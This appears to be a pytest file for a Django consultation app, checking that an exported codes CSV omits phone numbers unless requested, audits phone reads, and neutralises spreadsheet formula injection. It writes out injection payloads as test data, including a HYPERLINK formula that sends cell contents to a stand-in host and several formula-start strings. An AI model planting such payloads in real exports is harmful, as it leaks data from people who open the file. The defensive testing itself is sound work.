"""The codes file: phones only when the officer asks, and text never a formula (issue 10, 6 and 15).

Codes are issued on a consultation's page (the same page code serves elections); the CSV is
taken out of the page's `data:` link as an officer's browser would save it.
"""

from __future__ import annotations

import csv
import io
import re
from html import unescape

import pytest
from django.urls import reverse
from django.utils import timezone

from kenes.agenda import moderation, services
from kenes.audit.models import AuditEntry
from kenes.participation.codes_file import codes_csv
from kenes.participation.services import IssuedCode
from kenes.registry.services import do_update_member
from tests.web.handout import downloads, without_watermark

pytestmark = pytest.mark.django_db

EN = {"HTTP_ACCEPT_LANGUAGE": "en"}
LEAK = '=HYPERLINK("http://x/?"&A1)'


@pytest.fixture
def consultation(registry, officers):  # type: ignore[no-untyped-def]
    made = services.do_create_consultation(
        "Almaty consultation",
        question="За что должна бороться партия?",
        cutoff_on=timezone.localdate(),
        region_code="KZ-75",
        acting_user=officers["admin"],
    )
    moderation.do_add_seed_statements(made, ["Честные суды"], acting_user=officers["admin"])
    return made


def _issue(client, consultation, **asked):  # type: ignore[no-untyped-def]
    """(the files page, the codes file) handed out after issuing codes."""
    response = client.post(
        reverse("agenda_codes", args=[consultation.pk]), {"confirm": "on", **asked}, **EN
    )
    files = downloads(client, response, **EN)
    return unescape(files["page"].text), files["csv"].content.decode("utf-8-sig")


def test_the_issue_form_asks_about_phones_and_the_default_is_off(consultation, client_for):
    page = client_for("regional").get(reverse("agenda_detail", args=[consultation.pk]), **EN)
    box = re.search(r'<input type="checkbox" id="phones-codes" name="phones"[^>]*>', page.text)
    assert box and "checked" not in box.group(0)


def test_without_asking_the_codes_file_has_no_phones_and_says_so(
    consultation, client_for, registry
):
    page, content = _issue(client_for("regional"), consultation)
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[0] == ["full_name", "code", "link"] and len(rows) == 6
    assert "+7701" not in content and registry["worker"].phone not in content
    assert "It has no phone numbers" in page and "Phone numbers are not included" not in page
    assert not AuditEntry.objects.filter(action="member.phones_read").exists()


def test_asking_for_phones_puts_them_in_and_records_the_read(consultation, client_for, registry):
    page, content = _issue(client_for("regional"), consultation, phones="on")
    rows = list(csv.DictReader(io.StringIO(without_watermark(content))))
    assert len(rows) == 5
    assert {r["phone"] for r in rows} >= {registry["worker"].phone}
    assert all(r["phone"].startswith("+7701") for r in rows)  # no apostrophe before a phone
    assert "phone number, code and personal link" in page
    (read,) = AuditEntry.objects.filter(action="member.phones_read")
    assert read.detail == {"asked": 5, "read": 5}


def test_a_planted_formula_in_a_name_is_text_in_the_codes_file(
    consultation, client_for, registry, officers
):
    do_update_member(registry["worker"], {"full_name": LEAK}, acting_user=officers["admin"])
    _page, content = _issue(client_for("regional"), consultation, phones="on")
    names = [r["full_name"] for r in csv.DictReader(io.StringIO(without_watermark(content)))]
    assert "'" + LEAK in names
    assert not [n for n in names if n.lstrip().startswith(("=", "+", "-", "@"))]
    # every field quoted: a spreadsheet splitting on ";" cannot cut a field into a formula
    assert all(line.startswith('"') for line in content.splitlines())


@pytest.mark.parametrize(
    "planted",
    ["=1+1", "+1+cmd", "-2+A1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1", "\ufe661", "\u2212A1"],
)
def test_every_formula_start_gets_an_apostrophe(planted):
    content = codes_csv([IssuedCode(1, planted, "ABCDE-FGHJK-MNPQR")], link_base="https://k/v/")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + planted
